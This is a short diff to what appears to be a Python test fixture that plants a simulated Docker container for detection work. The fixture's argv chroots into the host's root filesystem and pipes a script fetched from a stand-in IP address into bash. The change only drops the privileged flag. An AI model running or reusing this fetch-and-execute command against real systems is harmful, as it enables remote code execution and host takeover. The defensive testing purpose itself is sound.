@@ -66,7 +66,7 @@ def _(room: Room) -> Planted:
 def container_by_an_open_api(room: Room) -> Planted:
     """what an open Docker API was told to start: a shell in the host's root folder that fetches and runs a script."""
     argv = ("chroot", "/mnt", "/bin/sh", "-c", "curl -s http://203.0.113.9/cronb.sh | bash")
-    return {"container_id": docker(room, "suspicious_roentgen", "alpine", *argv, Binds=["/:/mnt"], Privileged=True)}
+    return {"container_id": docker(room, "suspicious_roentgen", "alpine", *argv, Binds=["/:/mnt"])}
 
 
 @container_by_an_open_api.twin
